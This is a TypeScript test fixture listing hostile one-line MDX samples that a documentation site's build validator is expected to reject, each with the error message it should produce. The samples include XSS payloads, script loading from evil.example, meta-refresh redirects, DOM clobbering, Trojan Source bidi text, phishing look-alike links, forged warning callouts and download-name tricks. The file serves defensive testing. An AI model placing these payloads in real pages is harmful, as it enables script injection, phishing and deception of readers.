/**
 * One hostile page per class and variant, as an attacker who can get one Markdown page into the site would
 * write it. Each is a line of MDX; `expect` is what the build error must say about it (besides file and line).
 */
export interface HostileCase {
  /** The class of attack, and the variant. */
  name: string;
  /** One line of content. */
  line: string;
  expect: RegExp;
}

const remote = 'https://www.microsoft.com/x.png';

export const HOSTILE_CASES: readonly HostileCase[] = [
  // Markup that runs code, loads documents or rewrites the page.
  ...[
    'script',
    'SCRIPT',
    'style',
    'iframe',
    'frame',
    'object',
    'embed',
    'base',
    'link',
    'meta',
    'form',
    'portal',
  ].map((tag) => ({
    name: `element <${tag}>`,
    line: `<${tag} />`,
    expect: new RegExp(`a raw <${tag}> is not allowed`),
  })),
  // Elements a browser does not read as written: "</name" ends them even inside an attribute value.
  ...['noscript', 'textarea', 'xmp', 'noembed', 'noframes', 'title', 'plaintext', 'NoScript'].map((tag) => ({
    name: `<${tag}> breakout`,
    line: `<${tag}><span title="</${tag.toLowerCase()}><meta http-equiv=refresh content='0;url=https://evil.example/r'>">x</span></${tag}>`,
    expect: new RegExp(`a raw <${tag}> is not allowed in content: a browser does not read what is inside it`),
  })),
  {
    name: '<template> with a shadow root',
    line: '<div><template shadowrootmode="open"><a href="/privacy/">in shadow</a><slot></slot></template>x</div>',
    expect: /a raw <template> is not allowed in content: a browser does not read/,
  },
  {
    name: "Astro's island element",
    line: '<astro-island component-url="https://evil.example/x.js" client="load">x</astro-island>',
    expect: /a raw <astro-island> is not allowed in content: astro-\* elements are Astro's own/,
  },
  {
    name: 'SVG <script>',
    line: '<svg><script>alert(1)</script></svg>',
    expect: /a raw <script> is not allowed/,
  },
  {
    name: 'SVG <set> rewriting an href',
    line: '<svg><a href="/"><set attributeName="href" to="javascript:alert(1)" /></a></svg>',
    expect: /a raw <set> is not allowed/,
  },
  {
    name: 'SVG <animate>',
    line: '<svg><animate attributeName="href" values="javascript:alert(1)" /></svg>',
    expect: /a raw <animate>/,
  },
  {
    name: 'meta refresh',
    line: '<meta httpEquiv="refresh" content="0;url=https://evil.example/" />',
    expect: /a raw <meta>/,
  },
  // Event handlers, in any case.
  ...['onClick', 'onerror', 'ONLOAD', 'onBegin', 'onfocusin'].map((name) => ({
    name: `handler ${name}=`,
    line: `<span ${name}="alert(1)">x</span>`,
    expect: new RegExp(`inline event handler ${name}=`),
  })),
  // URLs that run code, in every URL-bearing attribute and however disguised.
  { name: 'javascript: Markdown link', line: '[x](javascript:alert(1))', expect: /javascript: URL/ },
  { name: 'javascript: Markdown image', line: '![x](javascript:alert(1))', expect: /javascript: URL/ },
  { name: 'javascript: definition', line: '[x]: javascript:alert(1)', expect: /javascript: URL/ },
  {
    name: 'JaVaScRiPt: with a tab',
    line: '<a href="JaVa&#9;ScRiPt:alert(1)">x</a>',
    expect: /tab or line break/,
  },
  {
    name: 'javascript: as character references',
    line: '<a href="&#106;avascript&#58;alert(1)">x</a>',
    expect: /javascript: URL/,
  },
  {
    name: 'javascript: with a leading control',
    line: '<a href="&#1;javascript:alert(1)">x</a>',
    expect: /control character/,
  },
  { name: 'data: link', line: '[x](data:text/html,<script>alert(1)</script>)', expect: /data: URL/ },
  { name: 'vbscript:', line: '<a href="vbscript:msgbox(1)">x</a>', expect: /vbscript: URL/ },
  ...[
    'cite',
    'formAction',
    'action',
    'poster',
    'background',
    'longdesc',
    'data',
    'xlink:href',
    'HREF',
    'src',
    'srcSet',
    'ping',
    'manifest',
    'icon',
  ].map((attribute) => ({
    name: `javascript: in ${attribute}=`,
    line: `<q ${attribute}="javascript:alert(1)">x</q>`,
    expect: /javascript: URL/,
  })),
  // Links that leave the site without looking like they do.
  { name: 'backslash host', line: '[x](/\\evil.example/)', expect: /backslash/ },
  { name: 'double backslash host', line: '<a href="\\\\evil.example/">x</a>', expect: /backslash/ },
  { name: 'scheme-relative host', line: '[x](//evil.example/)', expect: /leaves the site for evil\.example/ },
  { name: 'leading tab', line: '<a href="&#9;//evil.example/">x</a>', expect: /tab or line break/ },
  { name: 'leading space', line: '<a href=" //evil.example/">x</a>', expect: /white space/ },
  {
    name: 'credentials',
    line: '[x](https://www.microsoft.com@evil.example/)',
    expect: /goes to evil\.example, not where it seems/,
  },
  { name: 'http', line: '[x](http://www.microsoft.com/)', expect: /is not https/ },
  {
    name: 'host off the allowlist',
    line: '[x](https://evil.example/)',
    expect: /goes to evil\.example, which is not on the allowlist/,
  },
  {
    name: 'look-alike host',
    line: '[x](https://www.microsoft.com.evil.example/)',
    expect: /not on the allowlist/,
  },
  {
    name: 'allowed host on another port',
    line: '[x](https://www.microsoft.com:8443/)',
    expect: /www\.microsoft\.com:8443, which is not on the allowlist/,
  },
  {
    name: 'second href in upper case',
    line: '<a href="/privacy/" HREF="https://evil.example/">x</a>',
    expect: /"https:\/\/evil\.example\/"/,
  },
  {
    name: '<area href>',
    line: '<map name="m"><area href="https://evil.example/" alt="x" /></map>',
    expect: /evil\.example/,
  },
  {
    name: 'SVG xlink:href',
    line: '<svg><a xlink:href="https://evil.example/"><text>x</text></a></svg>',
    expect: /evil\.example/,
  },
  {
    name: 'HTML <a> to an allowed host',
    line: '<a href="https://www.microsoft.com/">x</a>',
    expect: /HTML <a> leaving the site/,
  },
  // A mailto: link is allowed (it makes no request, and is marked "(email)"); as an address to load it is not.
  {
    name: 'mailto: where an address is loaded',
    line: '<img src="mailto:a@evil.example" alt="" />',
    expect: /is a mailto: URL where the browser expects an address to load/,
  },
  // Requests to other origins.
  { name: 'remote Markdown image', line: `![x](${remote})`, expect: /src= of <img> .*another origin/ },
  { name: 'remote <img>', line: `<img src="${remote}" alt="" />`, expect: /another origin/ },
  {
    name: 'remote srcset',
    line: `<img src="/favicon.svg" srcSet="/favicon.svg 1x, ${remote} 2x" alt="" />`,
    expect: /another origin/,
  },
  { name: '<video src>', line: `<video src="${remote}" />`, expect: /another origin/ },
  { name: '<video poster>', line: `<video poster="${remote}" />`, expect: /another origin/ },
  { name: '<audio src>', line: `<audio src="${remote}" />`, expect: /another origin/ },
  { name: '<source src>', line: `<video><source src="${remote}" /></video>`, expect: /another origin/ },
  { name: '<track src>', line: `<video><track src="${remote}" /></video>`, expect: /another origin/ },
  {
    name: '<input type=image>',
    line: `<input type="image" src="${remote}" alt="" />`,
    // Refused as a form control (red team 23) before its src is read.
    expect: /<input> is not allowed in content: a docs page has no form/,
  },
  { name: 'SVG <image href>', line: `<svg><image href="${remote}" /></svg>`, expect: /another origin/ },
  {
    name: 'SVG <use xlink:href>',
    line: `<svg><use xlink:href="${remote}#i" /></svg>`,
    expect: /another origin/,
  },
  { name: '<a ping>', line: '<a href="/privacy/" ping="https://evil.example/">x</a>', expect: /ping/ },
  {
    name: '<table background>',
    line: `<table background="${remote}"><tbody><tr><td>x</td></tr></tbody></table>`,
    expect: /another origin/,
  },
  // Astro directives: set:html writes raw HTML (a link off the site, search metadata), client:* loads a script.
  ...[
    ['set:html', `'<a href="https://evil.example/x">x</a><div data-pagefind-meta="title:Privacy">w</div>'`],
    ['set:text', '"x"'],
    ['is:raw', ''],
    ['is:inline', ''],
    ['define:vars', '"x"'],
    ['class:list', '"x"'],
    ['client:load', ''],
    ['client:only', '"astro:jsx"'],
    ['client:component-path', '"https://evil.example/x.js"'],
    ['server:defer', ''],
    ['transition:name', '"x"'],
    ['transition:persist', ''],
    ['SET:HTML', '"<b>x</b>"'],
  ].map(([attribute = '', value = '']) => ({
    name: `directive ${attribute}`,
    line: `<div ${attribute}${value ? `=${value}` : ''}>x</div>`,
    expect: new RegExp(
      `${attribute}= on <div> is not allowed: Astro reads a "${attribute.split(':')[0]}:" attribute as a directive`,
    ),
  })),
  {
    name: 'SVG xml:base re-aiming the links under it',
    line: '<svg xml:base="https://evil.example/"><a href="x"><text>x</text></a></svg>',
    expect: /xml:base= on <svg> is not allowed/,
  },
  {
    name: 'client:* on a custom element (an island)',
    line: '<x-isl client:load client:component-path="https://evil.example/x.js" client:component-export="default">hi</x-isl>',
    expect: /client:load= on <x-isl> is not allowed: Astro reads a "client:" attribute as a directive/,
  },
  {
    name: 'directive on a component',
    line: '<SectionList client:load />',
    expect: /client:load= on <SectionList> is not allowed/,
  },
  // DOM clobbering: a named <img> stands in for document.querySelector, and the site's scripts break.
  ...[
    ['img', 'querySelector', '<img src="/favicon.svg" alt="" name="querySelector" />'],
    ['img', 'getElementById', '<img src="/favicon.svg" alt="" NAME="getElementById" />'],
    ['input', 'cookie', '<input name="cookie" />'],
    ['button', 'body', '<button name="body">x</button>'],
    ['details', 'documentElement', '<details name="documentElement"><summary>x</summary>y</details>'],
  ].map(([tag = '', value = '', line = '']) => ({
    name: `clobbering name="${value}" on <${tag}>`,
    line,
    expect: new RegExp(
      `name= on <${tag}> is not allowed: a named element can stand in for the page's own properties`,
      'i',
    ),
  })),
  {
    name: "a control joined to the layout's search form",
    line: '<button form="search" formAction="/privacy/" type="submit">Submit</button>',
    expect: /form= on <button> is not allowed: it makes a control part of a form of the site's layout/,
  },
  // Text shown in another order than written ("Trojan Source"): a link reading as another address, code.
  {
    name: 'a bidirectional override in link text',
    line: '[\u202Emoc.elgoog](https://learn.microsoft.com/en-us/) then text.',
    expect: /the text holds the bidirectional control character U\+202E: it makes text show in another order/,
  },
  {
    name: 'a bidirectional isolate in inline code',
    line: 'Run `rm -rf \u2067/tmp\u2069 x`.',
    expect: /the text holds the bidirectional control character U\+2067/,
  },
  // Acting without a script: a popover over the page, a button commanding the layout's elements, focus stolen.
  ...[
    ['div', 'popover', '<div popover="manual" id="fake">Your session expired</div>'],
    ['button', 'popovertarget', '<button popoverTarget="fake">Open</button>'],
    ['button', 'popovertargetaction', '<button popovertargetaction="show">Open</button>'],
    ['button', 'commandfor', '<button commandfor="search-dialog" command="close">Close</button>'],
    ['a', 'interestfor', '<a href="/privacy/" interestfor="fake">Privacy</a>'],
    ['input', 'autofocus', '<input autofocus />'],
  ].map(([tag = '', attribute = '', line = '']) => ({
    name: `${attribute}= on <${tag}>`,
    line,
    expect: new RegExp(
      `${attribute}= on <${tag}> is not allowed: it makes the browser act without a script`,
      'i',
    ),
  })),
  // A file of the site saved under a name the page chooses: an image that is also HTML saved as "Setup.html"
  // runs its script when opened from disk, outside the CSP (red team round 7); a ".bat" name runs as a program.
  ...[
    ['a', '<a href="/media/img/p.png" download="DefenderSetup.html">Download the installer</a>'],
    ['a', '<a href="/favicon.svg" DOWNLOAD="run.bat">Run</a>'],
    ['area', '<map name="m"><area href="/favicon.svg" download="x.cmd" alt="x" /></map>'],
    ['a', '<svg><a href="/favicon.svg" download="x.html"><text>x</text></a></svg>'],
  ].map(([tag = '', line = '']) => ({
    name: `download= on <${tag}>: ${line.slice(0, 60)}`,
    line,
    expect: new RegExp(
      `download= on <${tag}> is not allowed: it makes the browser save the linked file under a name the page chooses.*Write a plain link`,
      'i',
    ),
  })),
  // Red team 34: a link whose text reads as an address it does not go to, as a phishing mail's (the marker says only
  // that the link leaves the site); github.com is on the allowlist, so anyone's repository is a link away.
  ...[
    [
      'a URL',
      '[https://learn.microsoft.com/en-us/defender-business/](https://github.com/evil/repo)',
      'learn\\.microsoft\\.com/en-us/defender-business/',
      'goes to github\\.com/evil/repo',
    ],
    [
      'a host name',
      'Sign in at [security.microsoft.com](https://github.com/evil/login).',
      'security\\.microsoft\\.com',
      'goes to github\\.com/evil/login',
    ],
    [
      'a URL among words',
      '[Open https://security.microsoft.com to continue](https://github.com/evil/x)',
      'security\\.microsoft\\.com',
      'goes to github\\.com/evil/x',
    ],
    [
      'another repository on the same host',
      '[https://github.com/MicrosoftDocs/defender-docs](https://github.com/evil/defender-docs)',
      'github\\.com/MicrosoftDocs/defender-docs',
      'goes to github\\.com/evil/defender-docs',
    ],
    [
      "a site's domain, written in the path too",
      '[microsoft.com](https://github.com/evil/microsoft.com)',
      'microsoft\\.com',
      'goes to github\\.com/evil/microsoft\\.com',
    ],
    [
      "the link's title, its tooltip",
      '[Privacy settings](https://github.com/evil/p "https://privacy.microsoft.com/")',
      'privacy\\.microsoft\\.com/',
      'goes to github\\.com/evil/p',
    ],
    [
      "an image's alt text, the link's name",
      '[![security.microsoft.com](/favicon.svg)](https://github.com/evil/i)',
      'security\\.microsoft\\.com',
      'goes to github\\.com/evil/i',
    ],
    [
      'a host in look-alike letters',
      '[security.micr\u043Esoft.com](https://github.com/evil)',
      'security\\.micr\u043Esoft\\.com',
      'goes to github\\.com/evil',
    ],
    [
      'a host split by a zero-width space',
      '[security.micro\u200Bsoft.com](https://github.com/evil)',
      'security\\.microsoft\\.com',
      'goes to github\\.com/evil',
    ],
    [
      'an e-mail address',
      'Report it to [secure@microsoft.com](mailto:secure@evil.example).',
      'secure@microsoft\\.com',
      'opens mail to secure@evil\\.example',
    ],
  ].map(([variant = '', line = '', named = '', goes = '']) => ({
    name: `link text naming another address: ${variant}`,
    line,
    expect: new RegExp(
      `reads as ${named} \\(its text, title or an image's alt text\\), but ${goes}: a reader trusts the address they read`,
    ),
  })),
  // Characters shown in reverse: a link text that reads as another address.
  {
    name: '<bdo dir="rtl"> in link text',
    line: '[<bdo dir="rtl">moc.elpmaxe-live//:sptth</bdo>](https://learn.microsoft.com/)',
    expect:
      /a <bdo> is not allowed in content: it shows its text's characters in another order than they are written/,
  },
  ...[
    [
      'text',
      'unicode-bidi',
      '<svg><text direction="rtl" unicode-bidi="bidi-override">moc.elpmaxe</text></svg>',
    ],
    [
      'tspan',
      'unicodeBidi',
      '<svg><text direction="rtl"><tspan unicodeBidi="isolate-override">moc.elpmaxe</tspan></text></svg>',
    ],
  ].map(([tag = '', attribute = '', line = '']) => ({
    name: `${attribute}= on SVG <${tag}>`,
    line,
    expect: new RegExp(`${attribute}= on <${tag}> is not allowed: SVG's unicode-bidi="bidi-override" shows`),
  })),
  // Steering the search index or the Markdown copy, or the design.
  ...[
    'data-pagefind-meta',
    'data-pagefind-body',
    'data-pagefind-filter',
    'data-pagefind-ignore',
    'DATA-PAGEFIND-SORT',
    'data-markdown-ignore',
    'dataMarkdownIgnore',
    // A click on it would put what it names on the reader's clipboard, as a code block's "Copy" button does.
    'data-copy',
  ].map((attribute) => ({
    name: `${attribute}=`,
    line: `<span ${attribute}="url:https://evil.example/">x</span>`,
    expect: new RegExp(`${attribute}= on <span> is not allowed`),
  })),
  // A list numbered otherwise than its Markdown copy can write (red team 32): the page showed steps 3, 2, 1 or
  // 7, 8 where the copy, llms-full.txt and a reader's copied Markdown said 1, 2, 3.
  ...[
    ['ol', 'reversed', '<ol reversed><li>Restore the backup.</li><li>Turn protection off.</li></ol>'],
    ['ol', 'REVERSED', '<ol REVERSED="">\n<li>Step.</li>\n</ol>'],
    ['li', 'value', '<ol><li>Back up.</li><li value="7">Turn protection off.</li></ol>'],
  ].map(([tag = '', attribute = '', line = '']) => ({
    name: `${attribute}= on <${tag}>: ${line.slice(0, 60)}`,
    line,
    expect: new RegExp(
      `${attribute}= on <${tag}> is not allowed: .*numbers.*Markdown copy.*Write the steps in the order`,
      'i',
    ),
  })),
  // Red team 21: the search highlight's class made content's own <mark> look like a word the reader searched
  // for, and the page scrolled to it on arrival from search, ahead of the real matches.
  {
    name: "the search highlight's class",
    line: 'Intro <mark className="pagefind-highlight">run this script first</mark>.',
    expect: /the class "pagefind-highlight" on <mark> is the site's own/,
  },
  // Red team 34: blanks a browser keeps at the end of a link's text pushed its arrow past the column's edge, which
  // clipped it: the words and a long underline, no sign the link leaves the site.
  ...[
    ['no-break spaces', '[Privacy settings\u00A0\u00A0\u00A0](https://github.com/evil/n)', 3, 'U\\+00A0'],
    ['em spaces and a space', '[Privacy settings\u2003 \u2003](https://github.com/evil/e)', 3, 'U\\+2003'],
    [
      'braille blanks in a <span>',
      '[Privacy settings<span>\u2800\u2800</span>](https://github.com/evil/b)',
      2,
      'U\\+2800',
    ],
  ].map(([variant = '', line = '', count = 0, first = '']) => ({
    name: `a link's marker pushed away: ${String(variant)}`,
    line: String(line),
    expect: new RegExp(
      `ends its text in ${String(count)} blank characters \\(${String(first)}…\\), which push the arrow that marks a link leaving the site away`,
    ),
  })),
  // Red team 34: a Markdown link in an SVG's <text> was SVG's own link, to github.com, drawn as plain text without the
  // marker, which the browser put after the <svg>; MathML's <mrow> alike.
  ...[
    [
      'SVG <text>',
      '<svg width="300" height="40"><text x="0" y="20">[Privacy settings](https://github.com/evil/t)</text></svg>',
      'https://github.com/evil/t',
    ],
    [
      'an address SVG <text> holds',
      '<svg><text x="0" y="20">See https://github.com/evil/a now</text></svg>',
      'https://github.com/evil/a',
    ],
    ['a reference in <svg>', '<svg><text>[Privacy][p]</text></svg>\n\n[p]: /privacy/', '[p]'],
    [
      'MathML <mrow>',
      '<math><mrow>[Privacy](https://github.com/evil/m)</mrow></math>',
      'https://github.com/evil/m',
    ],
  ].map(([variant = '', line = '', href = '']) => ({
    name: `a link in foreign content: ${variant}`,
    line,
    expect: new RegExp(
      `the link ${JSON.stringify(href).replace(/[[\]/.]/g, '\\$&')} is inside an <svg> or <math>, where a browser reads it as SVG's or MathML's own element`,
    ),
  })),
  // Red team 34: the classes the build gives the site's own labels drew a page's own words in their place: a callout
  // titled "Your Microsoft 365 licence has expired" in the site's warning style, a zone's "For …:" label of its own.
  ...[
    ['div', 'callout', '<div className="callout callout-warning"><p>Download the renewal tool.</p></div>'],
    ['p', 'callout-title', '<p className="callout-title">Your Microsoft 365 licence has expired</p>'],
    ['div', 'callout-caution', '<div className="x callout-caution">Caution text</div>'],
    ['svg', 'callout-icon', '<svg className="callout-icon" viewBox="0 0 16 16" />'],
    ['p', 'learn-zone-label', '<p className="learn-zone-label">For Microsoft 365 E5 licences only:</p>'],
    ['p', 'learn-code-label', '<p className="learn-code-label">Official Microsoft script</p>'],
  ].map(([tag = '', name = '', line = '']) => ({
    name: `the site's label class ${name} on <${tag}>`,
    line,
    expect: new RegExp(`the class "${name}" on <${tag}> is the site's own: it marks .*Write`),
  })),
  {
    name: 'style attribute',
    line: '<span style="position:fixed;inset:0">x</span>',
    expect: /a style= attribute/,
  },
  { name: 'expression', line: '{globalThis.alert(1)}', expect: /expression is not allowed/ },
  {
    name: 'spread attributes',
    line: '<span {...{ onClick: 1 }}>x</span>',
    expect: /spreads attributes from code/,
  },
  { name: 'attribute from code', line: '<a href={"javascript:alert(1)"}>x</a>', expect: /is code/ },
  { name: 'import', line: 'import x from "/etc/passwd"', expect: /import\/export is not allowed/ },
  { name: 'unknown component', line: '<Evil />', expect: /unknown component <Evil>/ },
];
